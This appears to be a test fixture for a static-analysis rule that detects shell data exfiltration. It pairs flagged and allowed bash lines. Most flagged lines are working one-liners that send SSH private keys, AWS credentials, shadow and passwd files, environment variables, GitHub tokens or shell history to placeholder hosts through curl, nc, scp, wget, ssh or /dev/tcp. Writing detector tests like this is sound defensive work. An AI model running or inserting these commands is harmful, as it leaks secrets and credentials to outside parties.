#!/bin/bash
# ruleid: bash.net.exfiltrate
cat ~/.ssh/id_rsa | nc 1.2.3.4 9
# ruleid: bash.net.exfiltrate
curl -d @~/.aws/credentials https://collector.example/
# ruleid: bash.net.exfiltrate
curl -F "file=@$HOME/.ssh/id_rsa" https://collector.example/upload
# ruleid: bash.net.exfiltrate
scp ~/.ssh/id_rsa attacker@203.0.113.9:/tmp/
# ruleid: bash.net.exfiltrate
tar czf - ~/.ssh | curl -T - https://collector.example/put
# ruleid: bash.net.exfiltrate
curl -X POST --data-binary @/etc/passwd http://127.0.0.1:5758/submit
# ruleid: bash.net.exfiltrate
env | curl -s -d @- https://collector.example/
# ruleid: bash.net.exfiltrate
curl "https://collector.example/?k=$(base64 -w0 ~/.aws/credentials)"
# ruleid: bash.net.exfiltrate
cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.9/9001
# ruleid: bash.net.exfiltrate
wget --post-file=/etc/shadow http://collector.example/
# ruleid: bash.net.exfiltrate
base64 .env | ssh backup@203.0.113.9 'cat > dump'
# ruleid: bash.net.exfiltrate
gh auth token | curl -s -d @- https://collector.example/

# ok: bash.net.exfiltrate
curl -s https://api.example.com/status
# ok: bash.net.exfiltrate
curl -d '{"name": "demo"}' -H 'Content-Type: application/json' https://api.example.com/items
# ok: bash.net.exfiltrate
echo "cat ~/.ssh/id_rsa | nc 1.2.3.4 9"
# ok: bash.net.exfiltrate
scp ./dist/app.tar.gz deploy@example.com:/srv/
# ok: bash.net.exfiltrate
cat ~/.ssh/id_rsa.pub | ssh deploy@example.com 'cat >> .ssh/authorized_keys'

send_post_request() {
    local url=$1
    local body=$2
    # ruleid: bash.net.exfiltrate
    curl -s -o /dev/null --data-binary @"$body" "$url"
}
body='/etc/gshadow'
send_post_request "http://127.0.0.1:5758/submit" "$body"
# ruleid: bash.net.exfiltrate
cat ~/.bash_history | curl -F f=@- https://x.example/u
